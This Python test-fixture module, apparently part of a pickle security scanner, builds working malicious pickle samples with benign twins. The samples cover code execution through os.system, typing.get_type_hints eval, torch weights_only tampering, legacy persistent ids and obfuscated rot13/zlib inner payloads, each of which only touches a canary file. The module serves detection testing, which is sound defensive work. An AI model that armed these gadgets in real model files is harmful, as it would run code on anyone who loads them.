"""Samples for issue 14's gadget classes: one verified-malicious file per class, each with a benign twin.

Built with the real libraries (numpy, torch) or assembled opcode by opcode; every malicious sample creates its
canary when loaded by its real loader (``tests/test_sinks.py`` proves it in a subprocess), every twin loads
cleanly. Loaders:

* ``pickle``: ``pickle.load(f)``;
* ``torch``: ``torch.load(f, weights_only=False)`` (what a legacy or full-model checkpoint needs);
* ``then-default``: ``pickle.load`` of the sample, then ``torch.load`` *with torch's default* (weights-only)
  of a second file that calls ``os.system``: the canary appears only if the sample disarmed weights_only.
"""

from __future__ import annotations

import base64
import codecs
import io
import pickle
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.asm import Asm


@dataclass(frozen=True)
class Case:
    id: str
    gadget_class: str
    """Which cause of issue 14 the sample exercises."""
    loader: str
    expect: str
    """``malicious`` or ``safe``."""
    make: Callable[[Path], bytes]
    symbol: str = ""
    """A finding must name this symbol (malicious samples)."""
    canary_name: str = "canary"


def _global(a: Asm, module: str, name: str) -> Asm:
    return a.short_binunicode(module).short_binunicode(name).stack_global()


def _call(module: str, name: str, *args: str | int | bool) -> bytes:
    """``module.name(*args)`` with constant arguments, protocol 4."""
    a = _global(Asm(4), module, name).mark()
    for arg in args:
        if isinstance(arg, bool):
            a.newtrue() if arg else a.newfalse()
        elif isinstance(arg, int):
            a.binint(arg)
        else:
            a.text(arg)
    return a.tuple_().reduce().stop().bytes()


def _system_pickle(c: Path) -> bytes:
    return _call("os", "system", f"touch {c}")


# -- 1. native sinks --------------------------------------------------------------------------------------
def native_tofile(c: Path) -> bytes:
    """``numpy.ndarray.tofile(numpy.array([1, 2]), canary)``: a method descriptor with no bytecode."""
    a = _global(Asm(4), "numpy", "ndarray.tofile").mark()
    _global(a, "numpy", "array").empty_list().mark().binint(1).binint(2).appends().tuple1().reduce()
    return a.text(str(c)).tuple_().reduce().stop().bytes()


def native_from_file(c: Path) -> bytes:
    """``torch.from_file(canary, True, 4)``: maps (and creates) a file."""
    return _call("torch", "from_file", str(c), True, 4)


def native_twin(_c: Path) -> bytes:
    import numpy

    return pickle.dumps(numpy.arange(4), protocol=4)


# -- 2. modules nothing imports by default ----------------------------------------------------------------
def unimported_module(c: Path) -> bytes:
    """``test.support.os_helper.create_empty_file(canary)``: the stdlib's test helpers."""
    return _call("test.support.os_helper", "create_empty_file", str(c))


def unimported_twin(_c: Path) -> bytes:
    """``colorsys.rgb_to_hsv``: a rarely imported module with a pure function."""
    return _call("colorsys", "rgb_to_hls", 1, 0, 0)


# -- 3. depth ---------------------------------------------------------------------------------------------
def deep_sink(c: Path) -> bytes:
    """``numpy.savez_compressed(canary.npz, [1, 2])``: open() is several calls down."""
    a = _global(Asm(4), "numpy", "savez_compressed").mark().text(str(c))
    a.empty_list().mark().binint(1).binint(2).appends()
    return a.tuple_().reduce().stop().bytes()


def deep_twin(_c: Path) -> bytes:
    import numpy

    return pickle.dumps(numpy.linspace(0.0, 1.0, 5), protocol=4)


# -- 4. names: untyped receivers, methods of module classes, re-exports ----------------------------------
def type_hints_eval(c: Path) -> bytes:
    """``typing.get_type_hints(ns)`` where ns.__annotations__ holds source: eval via ForwardRef._evaluate."""
    a = _global(Asm(4), "typing", "get_type_hints")
    _global(a, "argparse", "Namespace").empty_tuple().reduce()
    a.empty_dict().text("__annotations__").empty_dict()
    a.text("x").text(f"__import__('os').system('touch {c}')").setitem()
    a.setitem().build()
    return a.tuple1().reduce().stop().bytes()


def namespace_twin(_c: Path) -> bytes:
    import argparse

    return pickle.dumps(argparse.Namespace(lr=0.1, epochs=3), protocol=4)


def config_module_load(c: Path) -> bytes:
    """``torch._dynamo.config.load_config(b)``: a method of the module's ConfigModule class unpickles b."""
    return (
        _global(Asm(4), "torch._dynamo.config", "load_config")
        .binbytes(_system_pickle(c))
        .tuple1()
        .reduce()
        .stop()
        .bytes()
    )


def reexport_filestore(c: Path) -> bytes:
    """``torch.distributed.FileStore(canary, 2)``: a re-export of torch._C._distributed_c10d.FileStore (with a
    world size of 2 the file outlives the store, which removes it once every worker is done)."""
    return _call("torch.distributed", "FileStore", str(c), 2)


def torch_size_twin(_c: Path) -> bytes:
    import torch

    return pickle.dumps(torch.Size([2, 3]), protocol=4)


# -- 5. tampering by a call -------------------------------------------------------------------------------
def tamper_add_safe_globals(_c: Path) -> bytes:
    """``torch.serialization.add_safe_globals([builtins.exec])``: the next weights-only load runs code."""
    a = _global(Asm(4), "torch.serialization", "add_safe_globals").empty_list()
    _global(a, "builtins", "exec")
    return a.append().tuple1().reduce().stop().bytes()


def tamper_set_obj_state(_c: Path) -> bytes:
    """``torch._utils._set_obj_state(torch.serialization, {'_default_to_weights_only': bool})``."""
    a = _global(Asm(4), "torch._utils", "_set_obj_state")
    _global(a, "torch", "serialization")
    a.empty_dict().text("_default_to_weights_only")
    _global(a, "builtins", "bool")  # bool(pickle_module=None) is False: weights_only off by default
    return a.setitem().tuple2().reduce().stop().bytes()


def second_stage(c: Path) -> bytes:
    """What the ``then-default`` loader loads with torch's defaults after the sample (protocol 2, as torch's
    weights-only unpickler reads it)."""
    source = f"open({str(c)!r}, 'w').close()"
    return Asm(2).global_("builtins", "exec").binunicode(source).tuple1().reduce().stop().bytes()


def tamper_twin(_c: Path) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"step": 3}, buf)
    return buf.getvalue()


# -- 6. legacy persistent ids -----------------------------------------------------------------------------
def _legacy_file(main: bytes) -> bytes:
    import torch

    head = b"".join(
        pickle.dumps(x, protocol=2)
        for x in (torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {"little_endian": True})
    )
    return head + main + pickle.dumps([], protocol=2)


def legacy_module_pid(c: Path) -> bytes:
    """A legacy torch pickle whose ``('module', cls, file, source)`` id hands back posix.system, then called."""
    a = Asm(2).mark().text("module")
    a.global_("posix", "system").text("x.py").text("source")
    a.tuple_().binpersid().text(f"touch {c}").tuple1().reduce().stop()
    return _legacy_file(a.bytes())


def legacy_module_twin(_c: Path) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2), buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


# -- 7. inner payloads decoded at load time ---------------------------------------------------------------
def hidden_inner(c: Path) -> bytes:
    """``pickle.loads(zlib.decompress(b85decode(codecs.encode(S, 'rot13')[::-1])))``: the inner pickle
    exists only once the load-time decoding has run."""
    inner = base64.b85encode(zlib.compress(_system_pickle(c))).decode("ascii")
    hidden = codecs.encode(inner[::-1], "rot13")
    a = _global(Asm(4), "pickle", "loads")
    _global(a, "zlib", "decompress")
    _global(a, "base64", "b85decode")
    _global(a, "operator", "getitem")
    _global(a, "codecs", "encode").text(hidden).text("rot13").tuple2().reduce()
    _global(a, "builtins", "slice").none().none().binint(-1).tuple3().reduce()
    a.tuple2().reduce().tuple1().reduce().tuple1().reduce().tuple1().reduce()
    return a.stop().bytes()


def hidden_exec(c: Path) -> bytes:
    """``exec(codecs.decode(S, 'rot13'))``: the source exists only once decoded."""
    source = codecs.encode(f"open({str(c)!r}, 'w').close()", "rot13")
    a = _global(Asm(4), "builtins", "exec")
    _global(a, "codecs", "decode").text(source).text("rot13").tuple2().reduce()
    return a.tuple1().reduce().stop().bytes()


def hidden_twin(_c: Path) -> bytes:
    """The same pure decoding of harmless text, handed to no loader."""
    a = _global(Asm(4), "codecs", "encode").text("uryyb jbeyq").text("rot13").tuple2().reduce()
    return a.stop().bytes()


CASES: tuple[Case, ...] = (
    Case("native-ndarray-tofile", "native", "pickle", "malicious", native_tofile, "numpy.ndarray.tofile"),
    Case("native-torch-from-file", "native", "pickle", "malicious", native_from_file, "torch.from_file"),
    Case("native-twin-numpy-array", "native", "pickle", "safe", native_twin),
    Case(
        "unimported-test-support",
        "unimported",
        "pickle",
        "malicious",
        unimported_module,
        "test.support.os_helper.create_empty_file",
    ),
    Case("unimported-twin-colorsys", "unimported", "pickle", "safe", unimported_twin),
    Case("depth-savez-compressed", "depth", "pickle", "malicious", deep_sink, "numpy.savez_compressed", "canary.npz"),
    Case("depth-twin-linspace", "depth", "pickle", "safe", deep_twin),
    Case("names-get-type-hints", "names", "pickle", "malicious", type_hints_eval, "typing.get_type_hints"),
    Case(
        "names-config-load-config",
        "names",
        "pickle",
        "malicious",
        config_module_load,
        "torch._dynamo.config.load_config",
    ),
    Case("names-reexport-filestore", "names", "pickle", "malicious", reexport_filestore, "torch.distributed.FileStore"),
    Case("names-twin-namespace", "names", "pickle", "safe", namespace_twin),
    Case("names-twin-torch-size", "names", "pickle", "safe", torch_size_twin),
    Case(
        "tamper-add-safe-globals",
        "tamper",
        "then-default",
        "malicious",
        tamper_add_safe_globals,
        "torch.serialization.add_safe_globals",
    ),
    Case(
        "tamper-set-obj-state",
        "tamper",
        "then-default",
        "malicious",
        tamper_set_obj_state,
        "torch._utils._set_obj_state",
    ),
    Case("tamper-twin-torch-save", "tamper", "torch", "safe", tamper_twin),
    Case("legacy-module-pid", "persistent", "torch", "malicious", legacy_module_pid, "posix.system"),
    Case("legacy-module-pid-twin", "persistent", "torch", "safe", legacy_module_twin),
    Case("hidden-rot13-b85-zlib", "hidden", "pickle", "malicious", hidden_inner, "os.system"),
    Case("hidden-exec-rot13", "hidden", "pickle", "malicious", hidden_exec, "builtins.exec"),
    Case("hidden-twin-rot13-value", "hidden", "pickle", "safe", hidden_twin),
)
